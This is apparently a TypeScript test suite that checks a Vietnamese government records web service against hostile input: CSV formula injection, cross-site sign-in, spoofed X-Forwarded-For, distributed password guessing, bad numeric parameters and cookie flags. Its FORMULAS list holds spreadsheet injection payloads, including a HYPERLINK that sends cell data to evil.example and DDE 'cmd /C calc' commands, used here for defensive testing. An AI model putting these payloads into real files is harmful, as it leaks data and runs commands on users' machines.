import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { StaffAuthService } from '../src/auth/staff-auth.service';
import { StaffRole } from '../src/auth/staff.entities';
import { ImportsService } from '../src/imports/imports.service';
import { buildDossier } from './factories/dossier.factory';
import { browser, setCookie } from './support/console';
import { ADMIN_KEY, TestApp, bearer, describeEachDatabase, startTestApp } from './support/test-app';
import { createTree, send } from './support/tree';

/**
 * The web surface under attack: spreadsheet formulas in every CSV, a
 * sign-in posted from another site, X-Forwarded-For from whoever sends it, many addresses
 * guessing one account's password, and numbers in URLs that SQL cannot take.
 */

const NOW = '2025-06-10T03:00:00Z'; // Tuesday 10/06/2025 10:00 in Vietnam
const PASSWORD = 'mat-khau-thu-nghiem-2025';
const MINUTE = 60_000;

/** Cells a spreadsheet would run; the leading tab and CR are trimmed on the way in, the = behind them is not. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")',
  "+cmd|' /C calc'!A0",
  '-1+2',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=2+3',
  '＝3+4',
];
/** What a spreadsheet (or a careless reader that trims cells) would take for a formula. */
const LIVE = /^[\s]*[=+\-@＝＋－＠]|^[\t\r]/;
const BAD_NUMBERS = ['1e21', '-1', '1.5', 'abc', '99999999999999999999', '0x10'];

type Agent = ReturnType<typeof request.agent>;

const readCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });
const alertOf = (html: string) => /<p class="alert" role="alert">([^<]*)<\/p>/.exec(html)?.[1] ?? null;
const formTokenOf = (html: string) => /name="_csrf" value="([^"]+)"/.exec(html)?.[1];

/** The sign-in form as a browser posts it: its page first (the browser's token), then the form. */
async function signInForm(sut: TestApp, fields: Record<string, string>, options: { agent?: Agent; address?: string; headers?: Record<string, string> } = {}) {
  const agent = options.agent ?? browser(sut);
  const token = formTokenOf((await agent.get('/admin/sign-in')).text);
  const post = agent.post('/admin/sign-in').type('form');
  if (options.address) post.set('X-Forwarded-For', options.address);
  for (const [name, value] of Object.entries(options.headers ?? {})) post.set(name, value);
  return post.send({ ...(token ? { _csrf: token } : {}), ...fields });
}

async function account(sut: TestApp, email: string, role: StaffRole = 'admin', unitCode?: string) {
  await sut.app.get(StaffAuthService).createAccount({ email, password: PASSWORD, role, unitCode: unitCode ?? null });
}

/** A browser signed in to a new account, with its session's form token. */
async function signedIn(sut: TestApp, email: string, role: StaffRole = 'admin', unitCode?: string): Promise<{ agent: Agent; csrf: string }> {
  await account(sut, email, role, unitCode);
  const agent = browser(sut);
  const answer = await signInForm(sut, { email, password: PASSWORD, next: '/admin/password' }, { agent });
  if (answer.status !== 303) throw new Error(`sign-in of ${email} answered ${answer.status}`);
  return { agent, csrf: formTokenOf((await agent.get('/admin/password')).text)! };
}

const sessionCookieOf = (answer: request.Response) => /tthc_session=[^;]+/.test(String(answer.headers['set-cookie'] ?? ''));

async function auditRows(sut: TestApp, action: string): Promise<{ actor: string; details: string }[]> {
  return sut.app.get(DataSource).query('SELECT actor, details FROM audit_log WHERE action = ? ORDER BY id', [action]);
}

describeEachDatabase('hostile input on the web', (kind) => {
  let sut: TestApp;
  let admin: { agent: Agent; csrf: string };
  let dir: string;

  beforeAll(async () => {
    sut = await startTestApp(kind, 'hostile-web', { now: NOW });
    await createTree(sut);
    admin = await signedIn(sut, 'quan-tri@tinh.gov.vn');
    dir = mkdtempSync(join(tmpdir(), 'tthc-hostile-'));
  });
  afterAll(async () => {
    await sut?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('answers 400 to a JSON body nested 100,000 levels deep, on every route that takes one, and goes on serving', async () => {
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    for (const path of ['/api/v1/dossiers', '/api/v1/units', '/api/v1/reorganizations']) {
      const answer = await sut.http.post(path).set(bearer(ADMIN_KEY)).set('Content-Type', 'application/json').send(`{"x": ${deep}}`);
      expect({ path, status: answer.status, body: answer.body }).toEqual({ path, status: 400, body: { statusCode: 400, error: 'Bad Request', message: 'body: nested more than 32 levels deep' } });
    }
    await sut.http.get('/health/live').expect(200);
  });

  // ------------------------------------------------------------------------------ 2.5 CSV

  describe('formula cells in every CSV', () => {
    beforeAll(async () => {
      const answer = await send(
        sut,
        FORMULAS.map((formula) =>
          buildDossier({ code: formula, unitCode: 'xa-a', status: 'processing', receivedAt: '2025-06-02T08:00', dueAt: '2025-06-05', procedureCode: formula, procedureName: formula, field: formula }),
        ),
      );
      expect(answer.status).toBe(200);
      expect(answer.body.rejected).toEqual([]);
    });

    /** Each text cell a spreadsheet would run starts with ', the working days left stay a bare number. */
    const expectSafeOpenList = (text: string) => {
      const [headings, ...rows] = readCsv(text);
      expect(headings[0]).toBe('Mã hồ sơ');
      expect(rows).toHaveLength(FORMULAS.length);
      for (const row of rows) {
        for (const column of [0, 2, 3, 4]) expect(row[column]).toMatch(/^'/);
        expect(row[10]).toBe('-3');
        for (const cell of row.slice(0, 10)) expect(LIVE.test(cell)).toBe(false);
      }
      const stored = FORMULAS.map((formula) => formula.replace(/\s+/g, ' ').trim()).sort();
      expect(rows.map((row) => row[0].slice(1)).sort()).toEqual(stored);
      expect(rows.map((row) => row[3].slice(1)).sort()).toEqual(stored);
      // Bare -3 on the line, not a quoted text.
      for (const line of text.split('\r\n').slice(1).filter(Boolean)) expect(line.endsWith(',-3')).toBe(true);
    };

    it('writes them as text in the API open list', async () => {
      const answer = await sut.http.get('/api/v1/units/xa-a/open').set(bearer(ADMIN_KEY)).set('Accept', 'text/csv').expect(200);
      expectSafeOpenList(answer.text);
    });

    it('writes them as text in the console download', async () => {
      const answer = await admin.agent.get('/admin/open.csv?unit=xa-a').expect(200);
      expect(answer.headers['content-type']).toMatch(/^text\/csv/);
      expectSafeOpenList(answer.text);
    });

    it('writes the codes of refused import rows as text in errors.csv, API and console', async () => {
      const file = join(dir, 'formulas.csv');
      writeFileSync(file, '\uFEFF' + stringify([['Mã hồ sơ', 'Trạng thái', 'Ngày tiếp nhận', 'Ngày hẹn trả'], ...FORMULAS.map((formula) => [formula, 'Chờ phê duyệt', '02/06/2025 08:00', '20/06/2025'])], { record_delimiter: 'windows' }));
      const started = await sut.http.post('/api/v1/imports').set(bearer(ADMIN_KEY)).field('unitCode', 'xa-a').attach('file', file).expect(202);
      await sut.app.get(ImportsService).settled();
      const done = (await sut.http.get(`/api/v1/imports/${started.body.id}`).set(bearer(ADMIN_KEY)).expect(200)).body;
      expect(done.counts.rejected).toBe(FORMULAS.length);
      const api = await sut.http.get(`/api/v1/imports/${started.body.id}/errors.csv`).set(bearer(ADMIN_KEY)).expect(200);
      const console = await admin.agent.get(`/admin/imports/${started.body.id}/errors.csv`).expect(200);
      for (const text of [api.text, console.text]) {
        const [headings, ...rows] = readCsv(text);
        expect(headings).toEqual(['Dòng', 'Mã hồ sơ', 'Lỗi']);
        expect(rows).toHaveLength(FORMULAS.length);
        for (const row of rows) {
          expect(row[0]).toMatch(/^[0-9]+$/);
          expect(row[1]).toMatch(/^'/);
          for (const cell of row) expect(LIVE.test(cell)).toBe(false);
        }
      }
    });
  });

  // ------------------------------------------------------------------------------ 2.6 login CSRF

  describe('a sign-in posted from another site', () => {
    beforeAll(() => account(sut, 'nan-nhan@xa-a.gov.vn', 'staff', 'xa-a'));
    const victim = { email: 'nan-nhan@xa-a.gov.vn', password: PASSWORD };

    it('is refused without the browser\'s sign-in token, and signs no one in', async () => {
      const visitor = browser(sut);
      const answer = await visitor.post('/admin/sign-in').type('form').send(victim);
      expect(answer.status).toBe(403);
      expect(sessionCookieOf(answer)).toBe(false);
      expect(answer.text).toContain('Biểu mẫu đăng nhập đã hết hạn');
      // The page offers a fresh form that works.
      expect((await signInForm(sut, victim, { agent: visitor })).status).toBe(303);
    });

    it('is refused with a wrong token, or with a token another browser was given', async () => {
      const wrong = browser(sut);
      await wrong.get('/admin/sign-in');
      const forged = await wrong.post('/admin/sign-in').type('form').send({ ...victim, _csrf: 'x'.repeat(43) });
      expect(forged.status).toBe(403);
      expect(sessionCookieOf(forged)).toBe(false);

      const attacker = browser(sut);
      const attackersToken = formTokenOf((await attacker.get('/admin/sign-in')).text)!;
      const visitor = browser(sut);
      await visitor.get('/admin/sign-in');
      const replayed = await visitor.post('/admin/sign-in').type('form').send({ ...victim, _csrf: attackersToken });
      expect(replayed.status).toBe(403);
      expect(sessionCookieOf(replayed)).toBe(false);
    });

    it.each([
      ['a foreign Origin', { Origin: 'https://evil.example' }],
      ['Origin: null', { Origin: 'null' }],
      ['a foreign Referer', { Referer: 'https://evil.example/trap.html' }],
    ])('is refused with %s even with a valid token', async (_label, headers) => {
      const answer = await signInForm(sut, victim, { headers });
      expect(answer.status).toBe(403);
      expect(sessionCookieOf(answer)).toBe(false);
    });

    it('signs in from the real form of this site', async () => {
      const answer = await signInForm(sut, victim, { headers: { Host: 'tthc.example.gov.vn', Origin: 'http://tthc.example.gov.vn' } });
      expect(answer.status).toBe(303);
      expect(sessionCookieOf(answer)).toBe(true);
    });

    it('refuses every other console post from another site, and keeps them working from this one', async () => {
      const { agent, csrf } = await signedIn(sut, 'nguoi-dung@xa-a.gov.vn', 'viewer', 'xa-a');
      const foreign = { Origin: 'https://evil.example' };
      const change = { _csrf: csrf, currentPassword: PASSWORD, newPassword: 'mot-mat-khau-moi-2025' };
      const refused = await agent.post('/admin/password').set(foreign).type('form').send(change);
      expect(refused.status).toBe(403);
      expect(refused.text).toContain('được gửi từ một trang web khác');
      expect((await agent.post('/admin/sign-out').set(foreign).type('form').send({ _csrf: csrf })).status).toBe(403);
      expect((await agent.get('/admin/password')).status).toBe(200);
      const own = { Host: 'tthc.example.gov.vn', Origin: 'http://tthc.example.gov.vn' };
      expect((await agent.post('/admin/password').set(own).type('form').send(change)).status).toBe(200);
      expect((await agent.post('/admin/sign-out').set(own).type('form').send({ _csrf: csrf })).status).toBe(303);
      expect((await agent.get('/admin/password')).status).toBe(303);
    });
  });

  // ------------------------------------------------------------------------------ 2.7 X-Forwarded-For

  describe('X-Forwarded-For', () => {
    it('is ignored by default: a new value each try is still one address to the throttle and the log', async () => {
      await account(sut, 'xff@xa-a.gov.vn', 'viewer', 'xa-a');
      const statuses: number[] = [];
      for (let i = 1; i <= 6; i++) statuses.push((await signInForm(sut, { email: 'xff@xa-a.gov.vn', password: `sai-${i}` }, { address: `203.0.113.${i}` })).status);
      expect(statuses).toEqual([401, 401, 401, 401, 401, 429]);
      sut.clock.advance(16 * MINUTE);
      expect((await signInForm(sut, { email: 'xff@xa-a.gov.vn', password: PASSWORD }, { address: '198.51.100.7' })).status).toBe(303);
      const [last] = (await auditRows(sut, 'sign-in')).filter((row) => row.actor.endsWith('xff@xa-a.gov.vn'));
      expect(last.details).not.toContain('198.51.100.7');
      expect(last.details).toMatch(/from (::ffff:)?127\.0\.0\.1/);
    });

    it('is not honoured from an address TRUST_PROXY does not name', async () => {
      const other = await startTestApp(kind, 'hostile-web-proxy-elsewhere', { now: NOW, env: { TRUST_PROXY: '10.9.8.7' } });
      try {
        await account(other, 'xa@xa-a.gov.vn');
        const statuses: number[] = [];
        for (let i = 1; i <= 6; i++) statuses.push((await signInForm(other, { email: 'xa@xa-a.gov.vn', password: `sai-${i}` }, { address: `203.0.113.${i}` })).status);
        expect(statuses).toEqual([401, 401, 401, 401, 401, 429]);
      } finally {
        await other.close();
      }
    });
  });

  // ------------------------------------------------------------------------------ 2.8 numbers in URLs

  describe('numbers in URLs', () => {
    it.each(BAD_NUMBERS)('answers %j with 400 naming the parameter, in the API', async (value) => {
      const key = bearer(ADMIN_KEY);
      const expectRefused = async (call: request.Test, name: string) => {
        const answer = await call;
        expect([answer.status, JSON.stringify(answer.body)]).toEqual([400, expect.stringContaining(`${name}: must be an integer`)]);
      };
      await expectRefused(sut.http.get('/api/v1/units/xa-a/open').query({ page: value }).set(key), 'page');
      await expectRefused(sut.http.get('/api/v1/units/xa-a/open').query({ pageSize: value }).set(key), 'pageSize');
      await expectRefused(sut.http.get('/api/v1/units/xa-a/open').query({ page: value }).set(key).set('Accept', 'text/csv'), 'page');
      await expectRefused(sut.http.get('/api/v1/units/xa-a/stats').query({ decimals: value }), 'decimals');
      await expectRefused(sut.http.get('/widget/xa-a.json').query({ decimals: value }), 'decimals');
      await expectRefused(sut.http.get(`/api/v1/imports/${value}`).set(key), 'id');
      await expectRefused(sut.http.get(`/api/v1/imports/${value}/errors.csv`).set(key), 'id');
      await expectRefused(sut.http.get(`/api/v1/report-subscriptions/${value}`).set(key), 'id');
      await expectRefused(sut.http.patch(`/api/v1/report-subscriptions/${value}`).set(key).send({}), 'id');
      await expectRefused(sut.http.delete(`/api/v1/report-subscriptions/${value}`).set(key), 'id');
      await expectRefused(sut.http.get(`/api/v1/report-subscriptions/${value}/preview`).set(key), 'id');
      await expectRefused(sut.http.post(`/api/v1/report-subscriptions/${value}/send`).set(key), 'id');
      await expectRefused(sut.http.get(`/api/v1/report-subscriptions/${value}/deliveries`).set(key), 'id');
      await expectRefused(sut.http.delete(`/api/v1/api-keys/${value}`).set(key), 'id');
    });

    it.each(BAD_NUMBERS)('answers %j with 400 naming the parameter, in the console', async (value) => {
      const { agent, csrf } = admin;
      const expectRefused = async (call: request.Test, name: string) => {
        const answer = await call;
        expect([answer.status, answer.text]).toEqual([400, expect.stringContaining(`${name}: must be an integer`)]);
      };
      await expectRefused(agent.get('/admin/open').query({ unit: 'xa-a', page: value }), 'page');
      await expectRefused(agent.get('/admin/open.csv').query({ unit: 'xa-a', page: value }), 'page');
      await expectRefused(agent.get('/admin/settings').query({ year: value }), 'year');
      await expectRefused(agent.get('/admin/settings').query({ done: 'calendar', moved: value }), 'moved');
      for (const path of [`/admin/imports/${value}`, `/admin/imports/${value}/progress.json`, `/admin/imports/${value}/errors.csv`, `/admin/reports/${value}/edit`, `/admin/reports/${value}/preview`]) {
        await expectRefused(agent.get(path), 'id');
      }
      for (const path of [`/admin/reports/${value}`, `/admin/reports/${value}/delete`, `/admin/reports/${value}/send`, `/admin/settings/api-keys/${value}/revoke`, `/admin/settings/accounts/${value}/disable`]) {
        await expectRefused(agent.post(path).type('form').send({ _csrf: csrf }), 'id');
      }
    });

    it('still reads good numbers', async () => {
      await sut.http.get('/api/v1/units/xa-a/open').query({ page: 1, pageSize: 500 }).set(bearer(ADMIN_KEY)).expect(200);
      await sut.http.get('/api/v1/units/xa-a/stats').query({ decimals: 0 }).expect(200);
      await admin.agent.get('/admin/open').query({ unit: 'xa-a', page: 2 }).expect(200);
      await admin.agent.get('/admin/settings').query({ year: 2026, done: 'calendar', moved: 0 }).expect(200);
      await sut.http.get('/api/v1/imports/2147483647').set(bearer(ADMIN_KEY)).expect(404);
    });
  });
});

describeEachDatabase('the account lock, behind a trusted proxy', (kind) => {
  let sut: TestApp;
  let address = 0;
  /** A new client address each time, as an attacker on a network of its own would have. */
  const nextAddress = () => `198.18.${Math.floor(++address / 250)}.${(address % 250) + 1}`;
  const guess = (email: string, password = 'doan-mo-sai') => signInForm(sut, { email, password }, { address: nextAddress() });

  beforeAll(async () => {
    sut = await startTestApp(kind, 'hostile-lock', { now: NOW, env: { TRUST_PROXY: 'loopback', PUBLIC_BASE_URL: 'https://tthc.example.gov.vn' } });
    await createTree(sut);
  });
  afterAll(() => sut?.close());

  it('honours X-Forwarded-For from the proxy TRUST_PROXY names', async () => {
    await account(sut, 'sau-proxy@xa-a.gov.vn', 'viewer', 'xa-a');
    const fromA = [];
    for (let i = 0; i < 6; i++) fromA.push((await signInForm(sut, { email: 'sau-proxy@xa-a.gov.vn', password: `sai-${i}` }, { address: '203.0.113.10' })).status);
    expect(fromA).toEqual([401, 401, 401, 401, 401, 429]);
    // Another client behind the same proxy is its own address.
    expect((await signInForm(sut, { email: 'sau-proxy@xa-a.gov.vn', password: PASSWORD }, { address: '203.0.113.11' })).status).toBe(303);
    const [last] = (await auditRows(sut, 'sign-in')).filter((row) => row.actor.endsWith('sau-proxy@xa-a.gov.vn'));
    expect(last.details).toContain('from 203.0.113.11');
  });

  it('takes a post from PUBLIC_BASE_URL\'s origin, whatever Host the proxy passes on', async () => {
    await account(sut, 'cong-khai@xa-a.gov.vn', 'viewer', 'xa-a');
    const own = await signInForm(sut, { email: 'cong-khai@xa-a.gov.vn', password: PASSWORD }, { headers: { Origin: 'https://tthc.example.gov.vn' } });
    expect(own.status).toBe(303);
    const foreign = await signInForm(sut, { email: 'cong-khai@xa-a.gov.vn', password: PASSWORD }, { headers: { Origin: 'https://tthc.example.gov.vn.evil.example' } });
    expect(foreign.status).toBe(403);
  });

  it('locks an account after 10 failures from 10 addresses, and answers an unknown address the same', async () => {
    await account(sut, 'bi-doan@xa-a.gov.vn', 'staff', 'xa-a');
    const known: (string | number | null)[][] = [];
    const unknown: (string | number | null)[][] = [];
    for (let i = 0; i < 11; i++) {
      const a = await guess('bi-doan@xa-a.gov.vn');
      const b = await guess('khong-ai-co@xa-a.gov.vn');
      known.push([a.status, alertOf(a.text), a.headers['retry-after'] ?? null]);
      unknown.push([b.status, alertOf(b.text), b.headers['retry-after'] ?? null]);
    }
    expect(known.map(([status]) => status)).toEqual([...Array(10).fill(401), 429]);
    expect(unknown).toEqual(known);
    expect(known[10]).toEqual([429, 'Đăng nhập sai quá nhiều lần. Vui lòng thử lại sau 15 phút.', '900']);

    // The right password, from yet another address: still refused, the same way.
    const right = await signInForm(sut, { email: 'bi-doan@xa-a.gov.vn', password: PASSWORD }, { address: nextAddress() });
    expect([right.status, alertOf(right.text), sessionCookieOf(right)]).toEqual([429, known[10][1], false]);
    expect(right.text).not.toContain('lần đăng nhập sai vào tài khoản');

    // Audited for the account that exists (written after the answer); nothing kept of the address that does not.
    await sut.app.get(StaffAuthService).settled();
    const locks = await auditRows(sut, 'sign-in-locked');
    expect(locks.map((row) => row.actor)).toEqual([expect.stringMatching(/^staff:\d+ bi-doan@xa-a\.gov\.vn$/)]);
    expect(JSON.stringify(await sut.app.get(DataSource).query('SELECT * FROM audit_log'))).not.toContain('khong-ai-co');
  });

  it('holds on another instance of the service on the same database', async () => {
    const other = await startTestApp(kind, 'hostile-lock-2', { now: sut.clock.now().toISOString(), env: { TRUST_PROXY: 'loopback' }, database: sut.database });
    try {
      const answer = await signInForm(other, { email: 'bi-doan@xa-a.gov.vn', password: PASSWORD }, { address: nextAddress() });
      expect(answer.status).toBe(429);
    } finally {
      await other.close();
    }
  });

  it('lasts 15 minutes, however much it is tried meanwhile; then the owner is told of every failed attempt', async () => {
    sut.clock.advance(10 * MINUTE);
    expect((await guess('bi-doan@xa-a.gov.vn', PASSWORD)).status).toBe(429);
    sut.clock.advance(5 * MINUTE);
    const owner = browser(sut);
    expect((await signInForm(sut, { email: 'bi-doan@xa-a.gov.vn', password: PASSWORD }, { agent: owner, address: nextAddress() })).status).toBe(303);
    // 10 wrong passwords and 4 attempts refused by the lock (one of them on the other instance).
    const page = await owner.get('/admin').expect(200);
    expect(page.text).toContain('Có 14 lần đăng nhập sai vào tài khoản của bạn kể từ lần đăng nhập trước.');
    expect(page.text).toContain('data-failed-sign-ins="14"');
    const csrf = formTokenOf(page.text)!;
    await owner.post('/admin/failed-sign-ins/dismiss').type('form').send({ _csrf: csrf }).expect(303);
    expect((await owner.get('/admin')).text).not.toContain('data-failed-sign-ins');
    // Told once: the next sign-in starts from nothing.
    const again = browser(sut);
    await signInForm(sut, { email: 'bi-doan@xa-a.gov.vn', password: PASSWORD }, { agent: again, address: nextAddress() });
    expect((await again.get('/admin')).text).not.toContain('data-failed-sign-ins');
  });

  it('does not keep the owner out of a browser that signed in before, while strangers stay locked out', async () => {
    await account(sut, 'chu-tai-khoan@xa-a.gov.vn', 'staff', 'xa-a');
    const owners = browser(sut);
    expect((await signInForm(sut, { email: 'chu-tai-khoan@xa-a.gov.vn', password: PASSWORD }, { agent: owners, address: nextAddress() })).status).toBe(303);
    for (let i = 0; i < 10; i++) await guess('chu-tai-khoan@xa-a.gov.vn');
    expect((await signInForm(sut, { email: 'chu-tai-khoan@xa-a.gov.vn', password: PASSWORD }, { address: nextAddress() })).status).toBe(429);
    expect((await signInForm(sut, { email: 'chu-tai-khoan@xa-a.gov.vn', password: PASSWORD }, { agent: owners, address: nextAddress() })).status).toBe(303);
    // And it is told of them: 10 wrong passwords and the stranger the lock refused.
    expect((await owners.get('/admin')).text).toContain('data-failed-sign-ins="11"');
  });
});

describeEachDatabase('cookies behind a TLS proxy that TRUST_PROXY does not name', (kind) => {
  let sut: TestApp;

  beforeAll(async () => {
    // The proxy speaks plain HTTP to the service and is not trusted, so request.secure is false;
    // PUBLIC_BASE_URL says the browser's side is HTTPS.
    sut = await startTestApp(kind, 'hostile-cookies', { now: NOW, env: { PUBLIC_BASE_URL: 'https://tthc.example.gov.vn' } });
    await createTree(sut);
    await account(sut, 'cookie@xa-a.gov.vn', 'viewer', 'xa-a');
  });
  afterAll(() => sut?.close());

  const expectSecure = (cookie: { attributes: Record<string, string> } | undefined, path: string, sameSite: string) => {
    expect(cookie?.attributes).toEqual(expect.objectContaining({ path, httponly: '', secure: '', samesite: sameSite }));
  };

  it('sets the sign-in token as a __Host- cookie, and every cookie Secure', async () => {
    const agent = browser(sut);
    const page = await agent.get('/admin/sign-in').expect(200);
    expect(setCookie(page, 'tthc_sign_in')).toBeUndefined();
    const token = setCookie(page, '__Host-tthc_sign_in');
    expect(token?.value).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expectSecure(token, '/', 'Lax');
    expect(token?.attributes.domain).toBeUndefined();

    const signedIn = await agent.post('/admin/sign-in').type('form').send({ _csrf: formTokenOf(page.text), email: 'cookie@xa-a.gov.vn', password: PASSWORD });
    expect(signedIn.status).toBe(303);
    expectSecure(setCookie(signedIn, 'tthc_session'), '/', 'Lax');
    expectSecure(setCookie(signedIn, 'tthc_known_browser'), '/admin/sign-in', 'Strict');
    // Cleared with the attributes it was set with: a browser ignores a __Host- cookie without Secure.
    const cleared = setCookie(signedIn, '__Host-tthc_sign_in');
    expect(cleared?.value).toBe('');
    expect(new Date(cleared!.attributes.expires).getTime()).toBeLessThan(Date.parse(NOW));
    expectSecure(cleared, '/', 'Lax');

    const csrf = formTokenOf((await agent.get('/admin/password').expect(200)).text)!;
    const out = await agent.post('/admin/sign-out').type('form').send({ _csrf: csrf });
    expect(out.status).toBe(303);
    const session = setCookie(out, 'tthc_session');
    expect(session?.value).toBe('');
    expectSecure(session, '/', 'Lax');
  });
});
